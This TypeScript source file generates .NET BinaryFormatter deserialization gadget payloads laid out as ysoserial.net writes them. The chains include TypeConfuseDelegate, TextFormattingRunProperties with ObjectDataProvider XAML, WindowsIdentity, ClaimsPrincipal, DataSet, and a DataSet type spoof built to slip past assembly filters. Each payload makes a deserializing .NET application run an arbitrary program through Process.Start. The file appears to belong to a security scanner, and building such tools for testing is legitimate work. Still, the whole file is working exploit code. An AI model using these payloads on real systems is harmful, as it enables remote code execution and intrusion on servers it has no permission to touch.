/**
 * The .NET gadgets generate_dotnet_gadget builds, as BinaryFormatter records (dotnet-nrbf.ts) laid
 * out as ysoserial.net writes them (nuclei's library writes the same bytes): each makes a .NET
 * Framework that deserializes it run `program arguments` with Process.Start.
 * - `type-confuse-delegate`: a SortedSet of the two texts whose comparer is a multicast delegate of
 *   String.Compare and Process.Start, its type confused as Comparison<string>: sorting the set calls
 *   Process.Start(program, arguments).
 * - `text-formatting-runproperties`: a TextFormattingRunProperties (Microsoft.PowerShell.Editor)
 *   whose ForegroundBrush is XAML that XamlReader parses: an ObjectDataProvider calling
 *   Process.Start.
 * - `windows-identity`, `claims-principal`: a WindowsIdentity's actor, a ClaimsPrincipal's
 *   identities, each a base64 BinaryFormatter stream of type-confuse-delegate read when the outer
 *   object is.
 * - `dataset`, `dataset-type-spoof`: a DataSet in binary remoting format whose first table is a
 *   BinaryFormatter stream of text-formatting-runproperties; the spoof names DataSet with its
 *   assembly inside the type name and puts it in mscorlib's library, past filters on the library.
 */
import {
  type ClassRecord,
  type Member,
  type NrbfRecord,
  NULL,
  reference,
  string,
  writeNrbf,
} from './dotnet-nrbf.js';

const PUBLIC_KEY_TOKEN = 'PublicKeyToken=b77a5c561934e089';

export const ASSEMBLIES = {
  mscorlib: `mscorlib, Version=4.0.0.0, Culture=neutral, ${PUBLIC_KEY_TOKEN}`,
  system: `System, Version=4.0.0.0, Culture=neutral, ${PUBLIC_KEY_TOKEN}`,
  systemData: `System.Data, Version=4.0.0.0, Culture=neutral, ${PUBLIC_KEY_TOKEN}`,
  powerShellEditor:
    'Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35',
} as const;

/** A type's assembly-qualified name, as generic arguments name it. */
const qualified = (type: string, assembly: string) => `${type}, ${assembly}`;
const STRING_TYPE = qualified('System.String', ASSEMBLIES.mscorlib);
const PROCESS_TYPE = qualified('System.Diagnostics.Process', ASSEMBLIES.system);

/** The program and its arguments a gadget starts. */
export interface Command {
  readonly program: string;
  readonly arguments: string;
}

const header: NrbfRecord = { record: 'header', rootId: 1 };
const end: NrbfRecord = { record: 'end' };

const stringMember = (name: string): Member => ({ name, type: { binary: 'string' } });
const systemClassMember = (name: string, className: string): Member => ({
  name,
  type: { binary: 'systemClass', className },
});

export function typeConfuseDelegate(command: Command): NrbfRecord[] {
  const comparer = `System.Collections.Generic.ComparisonComparer\`1[[${STRING_TYPE}]]`;
  const delegateEntry = 'System.DelegateSerializationHolder+DelegateEntry';
  const memberInfo = 'System.Reflection.MemberInfoSerializationHolder';
  const entry: ClassRecord = {
    record: 'class',
    id: 8,
    name: delegateEntry,
    members: [
      ...['type', 'assembly'].map(stringMember),
      { name: 'target', type: { binary: 'object' } },
      ...['targetTypeAssembly', 'targetTypeName', 'methodName'].map(stringMember),
      systemClassMember('delegateEntry', delegateEntry),
    ],
    values: [
      string(11, `System.Func\`3[[${STRING_TYPE}],[${STRING_TYPE}],[${PROCESS_TYPE}]]`),
      string(12, ASSEMBLIES.mscorlib),
      NULL,
      string(13, ASSEMBLIES.system),
      string(14, 'System.Diagnostics.Process'),
      string(15, 'Start'),
      reference(16),
    ],
  };
  const startSignature = 'System.Diagnostics.Process Start(System.String, System.String)';
  const startMethod: ClassRecord = {
    record: 'class',
    id: 9,
    name: memberInfo,
    members: [
      ...['Name', 'AssemblyName', 'ClassName', 'Signature', 'Signature2'].map(stringMember),
      { name: 'MemberType', type: { binary: 'primitive', primitive: 'Int32' } },
      systemClassMember('GenericArguments', 'System.Type[]'),
    ],
    // MemberType 8: a method
    values: [
      reference(15),
      reference(13),
      reference(14),
      string(20, startSignature),
      string(21, startSignature),
      8,
      NULL,
    ],
  };
  return [
    header,
    { record: 'library', id: 2, name: ASSEMBLIES.system },
    {
      record: 'class',
      id: 1,
      name: `System.Collections.Generic.SortedSet\`1[[${STRING_TYPE}]]`,
      library: 2,
      members: [
        { name: 'Count', type: { binary: 'primitive', primitive: 'Int32' } },
        systemClassMember('Comparer', comparer),
        { name: 'Version', type: { binary: 'primitive', primitive: 'Int32' } },
        { name: 'Items', type: { binary: 'stringArray' } },
      ],
      values: [2, reference(3), 2, reference(4)],
    },
    {
      record: 'class',
      id: 3,
      name: comparer,
      members: [systemClassMember('_comparison', 'System.DelegateSerializationHolder')],
      values: [reference(5)],
    },
    // added in this order, the second is compared with the first: Process.Start(program, arguments)
    { record: 'stringArray', id: 4, elements: [string(6, command.arguments), string(7, command.program)] },
    {
      record: 'class',
      id: 5,
      name: 'System.DelegateSerializationHolder',
      members: [
        systemClassMember('Delegate', delegateEntry),
        systemClassMember('method0', memberInfo),
        systemClassMember('method1', memberInfo),
      ],
      values: [reference(8), reference(9), reference(10)],
    },
    entry,
    startMethod,
    {
      record: 'classWithId',
      id: 10,
      metadataId: 9,
      values: [
        string(22, 'Compare'),
        reference(12),
        string(24, 'System.String'),
        string(25, 'Int32 Compare(System.String, System.String)'),
        string(26, 'System.Int32 Compare(System.String, System.String)'),
        8,
        NULL,
      ],
    },
    {
      record: 'classWithId',
      id: 16,
      metadataId: 8,
      values: [
        string(27, `System.Comparison\`1[[${STRING_TYPE}]]`),
        reference(12),
        NULL,
        reference(12),
        reference(24),
        reference(22),
        NULL,
      ],
    },
    end,
  ];
}

/** XML's escapes of text inside an attribute value. */
function xmlAttribute(text: string): string {
  return text.replace(
    /[&<>"]/g,
    (character) => `&${{ '&': 'amp', '<': 'lt', '>': 'gt', '"': 'quot' }[character]};`,
  );
}

/** The XAML of an ObjectDataProvider starting a process, as ysoserial.net writes it. */
export function processXaml(command: Command): string {
  return [
    '<?xml version="1.0" encoding="utf-16"?>',
    '<ObjectDataProvider MethodName="Start" IsInitialLoadEnabled="False" xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:sd="clr-namespace:System.Diagnostics;assembly=System" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml">',
    '  <ObjectDataProvider.ObjectInstance>',
    '    <sd:Process>',
    '      <sd:Process.StartInfo>',
    `        <sd:ProcessStartInfo Arguments="${xmlAttribute(command.arguments)}" StandardErrorEncoding="{x:Null}" StandardOutputEncoding="{x:Null}" UserName="" Password="{x:Null}" Domain="" LoadUserProfile="False" FileName="${xmlAttribute(command.program)}" />`,
    '      </sd:Process.StartInfo>',
    '    </sd:Process>',
    '  </ObjectDataProvider.ObjectInstance>',
    '</ObjectDataProvider>',
  ].join('\r\n');
}

export function textFormattingRunProperties(command: Command): NrbfRecord[] {
  return [
    header,
    { record: 'library', id: 2, name: ASSEMBLIES.powerShellEditor },
    {
      record: 'class',
      id: 1,
      name: 'Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties',
      library: 2,
      members: [stringMember('ForegroundBrush')],
      values: [string(3, processXaml(command))],
    },
    end,
  ];
}

/** An mscorlib object of one string member holding a base64 BinaryFormatter stream. */
function wrapping(className: string, member: string, stringId: number, inner: NrbfRecord[]): NrbfRecord[] {
  const encoded = writeNrbf(inner).toString('base64');
  return [
    header,
    {
      record: 'class',
      id: 1,
      name: className,
      members: [stringMember(member)],
      values: [string(stringId, encoded)],
    },
    end,
  ];
}

export function windowsIdentity(command: Command): NrbfRecord[] {
  return wrapping(
    'System.Security.Principal.WindowsIdentity',
    'System.Security.ClaimsIdentity.actor',
    2,
    typeConfuseDelegate(command),
  );
}

export function claimsPrincipal(command: Command): NrbfRecord[] {
  return wrapping(
    'System.Security.Claims.ClaimsPrincipal',
    'm_serializedClaimsIdentities',
    5,
    typeConfuseDelegate(command),
  );
}

/**
 * A DataSet in binary remoting format (SerializationFormat 1) with one table, the stream of
 * text-formatting-runproperties, which DataSet's deserializing constructor reads with BinaryFormatter.
 */
function dataSet(command: Command, layout: { spoofed: boolean }): NrbfRecord[] {
  // the class's library is 2 either way: System.Data, or mscorlib when spoofed
  const dataLibrary = layout.spoofed ? 3 : 2;
  const name = layout.spoofed ? `System.Data.DataSet, ${ASSEMBLIES.systemData}` : 'System.Data.DataSet';
  const bool = { binary: 'primitive', primitive: 'Boolean' } as const;
  const int = { binary: 'primitive', primitive: 'Int32' } as const;
  const format = 'System.Data.SerializationFormat';
  return [
    header,
    ...(layout.spoofed ? [{ record: 'library', id: 2, name: 'mscorlib' } as const] : []),
    { record: 'library', id: dataLibrary, name: ASSEMBLIES.systemData },
    {
      record: 'class',
      id: 1,
      name,
      library: 2,
      members: [
        {
          name: 'DataSet.RemotingFormat',
          type: { binary: 'class', className: format, library: dataLibrary },
        },
        ...['DataSet.DataSetName', 'DataSet.Namespace', 'DataSet.Prefix'].map(stringMember),
        { name: 'DataSet.CaseSensitive', type: bool },
        { name: 'DataSet.LocaleLCID', type: int },
        { name: 'DataSet.EnforceConstraints', type: bool },
        { name: 'DataSet.ExtendedProperties', type: { binary: 'object' } },
        { name: 'DataSet.Tables.Count', type: int },
        { name: 'DataSet.Tables_0', type: { binary: 'primitiveArray', primitive: 'Byte' } },
      ],
      values: [
        // an enum value: an object of its own, its id negative as BinaryFormatter numbers value types
        {
          record: 'class',
          id: -(dataLibrary + 1),
          name: format,
          library: dataLibrary,
          members: [{ name: 'value__', type: int }],
          values: [1],
        },
        string(dataLibrary + 2, ''),
        reference(dataLibrary + 2),
        reference(dataLibrary + 2),
        false,
        1033, // en-US
        false,
        NULL,
        1,
        reference(dataLibrary + 3),
      ],
    },
    { record: 'byteArray', id: dataLibrary + 3, bytes: writeNrbf(textFormattingRunProperties(command)) },
    end,
  ];
}

export const dataSetGadget = (command: Command) => dataSet(command, { spoofed: false });
export const dataSetTypeSpoof = (command: Command) => dataSet(command, { spoofed: true });
